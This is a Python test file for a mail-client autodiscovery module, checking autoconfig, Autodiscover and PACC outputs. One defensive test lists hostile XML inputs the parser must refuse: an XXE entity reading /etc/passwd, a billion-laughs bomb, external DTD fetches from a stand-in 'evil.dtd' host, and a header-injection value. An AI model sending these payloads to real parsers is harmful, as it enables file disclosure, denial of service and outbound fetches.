"""What mail programs are told, read back by parsers that are not ours; and what strangers may ask."""

from __future__ import annotations

import base64
import hashlib
import json
import time
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cryptnsend.core.discovery import (
    ASKED_OCTETS,
    NotAsked,
    Servers,
    Service,
    asked_for,
    autoconfig,
    autodiscover,
    domain_of,
    hosts,
    no_protocol,
    not_discovered,
    pacc,
    pacc_record,
    redirection,
)

SMTP = (Service("smtp", 465), Service("smtp", 587, starttls=True))
SERVERS = Servers("mail.clinic.test", (Service("imap", 993), Service("pop3", 995), *SMTP), "https://mail.clinic.test")
SENDS_ONLY = Servers("mail.clinic.test", SMTP, "https://mail.clinic.test")
REQUEST = "http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"
NS = {"r": "http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"}


def question(address: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
    return (
        f'{head}<Autodiscover xmlns="{REQUEST}"><Request><EMailAddress>{address}</EMailAddress>'
        "<AcceptableResponseSchema>whatever</AcceptableResponseSchema></Request></Autodiscover>"
    ).encode()


# -- autoconfig -------------------------------------------------------------------------------------------------------


def test_autoconfig_has_each_server_the_best_first() -> None:
    """draft-ietf-mailmaint-autoconfig: the first of a kind is the preferred one."""
    root = ElementTree.fromstring(autoconfig(SERVERS, "firm.test"))
    assert (root.tag, root.get("version")) == ("clientConfig", "1.1")
    (provider,) = root.findall("emailProvider")
    assert (provider.get("id"), provider.findtext("domain")) == ("firm.test", "firm.test")
    fields = ("hostname", "port", "socketType", "authentication", "username")
    read = [[each.get("type"), *(each.findtext(name) for name in fields)] for each in provider if each.get("type")]
    rest = ["password-cleartext", "%EMAILADDRESS%"]
    assert read == [
        ["imap", "mail.clinic.test", "993", "SSL", *rest],
        ["pop3", "mail.clinic.test", "995", "SSL", *rest],
        ["smtp", "mail.clinic.test", "465", "SSL", *rest],
        ["smtp", "mail.clinic.test", "587", "STARTTLS", *rest],
    ]
    assert [each.tag for each in provider if each.get("type")] == ["incomingServer"] * 2 + ["outgoingServer"] * 2
    assert root.find(".//password") is None


@pytest.mark.parametrize(
    ("host", "address", "domain"),
    [
        ("autoconfig.firm.test", "", "firm.test"),
        ("autoconfig.firm.test", "ann@other.test", "other.test"),
        ("mail.clinic.test", "Ann@Firm.TEST", "firm.test"),
        ("mail.clinic.test", "", "mail.clinic.test"),
        ("mail.clinic.test", "ann", "mail.clinic.test"),
        ("mail.clinic.test", "ann@<b>", "mail.clinic.test"),
        ("autoconfig.", "", ""),
        ("", "", ""),
        ("[::1]", "", ""),
    ],
)
def test_the_domain_is_the_address_s_or_that_of_the_host(host: str, address: str, domain: str) -> None:
    assert domain_of(host, address) == domain


# -- Autodiscover -----------------------------------------------------------------------------------------------------


def test_autodiscover_answers_with_every_server_of_implicit_tls_and_the_address_as_it_was_typed() -> None:
    address = asked_for(question("Ann.O&apos;Hara@Firm.test"))
    assert address == "Ann.O'Hara@Firm.test"
    account = ElementTree.fromstring(autodiscover(SERVERS, address)).find("r:Response/r:Account", NS)
    assert account is not None
    assert account.findtext("r:AccountType", None, NS) == "email"
    assert account.findtext("r:Action", None, NS) == "settings"
    read = {
        (each.findtext("r:Type", None, NS), each.findtext("r:Port", None, NS))
        for each in account.findall("r:Protocol", NS)
    }
    assert read == {("IMAP", "993"), ("POP3", "995"), ("SMTP", "465")}
    for each in account.findall("r:Protocol", NS):
        assert each.findtext("r:Server", None, NS) == "mail.clinic.test"
        assert each.findtext("r:LoginName", None, NS) == address
        said = [each.findtext(f"r:{name}", None, NS) for name in ("SSL", "SPA", "AuthRequired", "DomainRequired")]
        assert said == ["on", "off", "on", "off"]


def test_what_is_no_question_gets_an_error_that_says_so() -> None:
    root = ElementTree.fromstring(not_discovered("12:00:00"))
    assert [each.text for each in root.iter() if each.tag.endswith("ErrorCode")] == ["600"]


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "octets",
    [
        b"",
        b"\x00",
        b"<",
        b"Ann@firm.test",
        b"\xff\xfe<\x00a\x00",
        question("not an address"),
        question(""),
        question("<b>ann@firm.test</b>"),
        question("ann@firm.test", "<!DOCTYPE Autodiscover>"),
        question("&x;", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        question("&l9;", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>'),
        question("ann@firm.test", '<!DOCTYPE a SYSTEM "http://198.51.100.1/evil.dtd">'),
        question("ann@firm.test", '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://198.51.100.1/p">%p;]>'),
        question("&unknown;"),
        question("a" * 10_000 + "@firm.test"),
        question("ann@firm.test") + b" " * ASKED_OCTETS,
        b"<Autodiscover>" + b"<a>" * 4000,
        "".join(f'<a b{n}="c">' for n in range(900)).encode(),
        "<Request><EMailAddress>ann@firm.test</EMailAddress></Request>".encode("utf-16"),
        b"<EMailAddress>ann@firm.test</EMailAddress>",
        question("ann@firm.test\x00"),
        question("ann@firm.test&#13;&#10;Bcc: x"),
    ],
    ids=range(22),
)
def test_what_strangers_make_up_is_refused_at_once_and_fetches_nothing(octets: bytes) -> None:
    begun = time.process_time()
    with pytest.raises(NotAsked):
        asked_for(octets)
    assert time.process_time() - begun < 1


def test_the_declared_encoding_does_not_count() -> None:
    assert asked_for(question("ann@firm.test", '<?xml version="1.0" encoding="utf-7"?>')) == "ann@firm.test"


@given(st.binary(max_size=300) | st.text("<>/&;![]\"'=x lT:", max_size=200).map(str.encode))
def test_any_octets_are_a_question_or_refused(octets: bytes) -> None:
    try:
        found = asked_for(octets)
    except NotAsked:
        found = "@"
    assert "@" in found


@given(st.text(max_size=60), st.text(max_size=20))
def test_any_address_that_can_be_asked_about_stands_in_an_answer_that_can_be_read(local: str, domain: str) -> None:
    from xml.sax.saxutils import escape

    try:
        address = asked_for(question(escape(f"{local}@{domain}"), "").replace(b"\r", b"&#13;"))
    except NotAsked:
        return
    root = ElementTree.fromstring(autodiscover(SERVERS, address))
    assert {each.text for each in root.iter() if each.tag.endswith("LoginName")} == {address}


def test_the_json_leads_to_the_xml_and_knows_no_other_protocol() -> None:
    led = redirection(SERVERS, "AutodiscoverV1")
    assert led is not None
    assert json.loads(led)["Url"] == "https://mail.clinic.test/autodiscover/autodiscover.xml"
    for other in ("ActiveSync", "Ews", "", "Substrate"):
        assert redirection(SERVERS, other) is None
    assert json.loads(no_protocol())["ErrorCode"] == "ProtocolNotSupported"


# -- PACC -------------------------------------------------------------------------------------------------------------


def test_pacc_names_each_protocol_and_its_record_is_the_digest_of_its_octets() -> None:
    document = pacc(SERVERS)
    assert document is not None
    read = json.loads(document)
    assert set(read["protocols"]) == {"imap", "pop3", "smtp", "submit"}
    assert {each["host"] for each in read["protocols"].values()} == {"mail.clinic.test"}
    assert read["authentication"] == {"password": True}
    tags = dict(each.strip().partition("=")[::2] for each in pacc_record(document).split(";"))
    assert (tags["v"], tags["a"]) == ("UAAC1", "sha256")
    assert base64.b64decode(tags["d"]) == hashlib.sha256(document).digest()
    assert pacc(SERVERS) == document


def test_pacc_has_no_document_for_ports_that_it_cannot_name() -> None:
    odd = Servers("mail.clinic.test", (Service("imap", 1993), *SMTP), "https://mail.clinic.test")
    assert pacc(odd) is None
    assert pacc(SENDS_ONLY) is None


def test_a_server_that_only_sends_has_no_hosts_to_be_found_by() -> None:
    assert [name for name, _ in hosts(SERVERS, "firm.test")] == [
        "autoconfig.firm.test",
        "autodiscover.firm.test",
        "ua-auto-config.firm.test",
    ]
    assert list(hosts(SENDS_ONLY, "firm.test")) == []
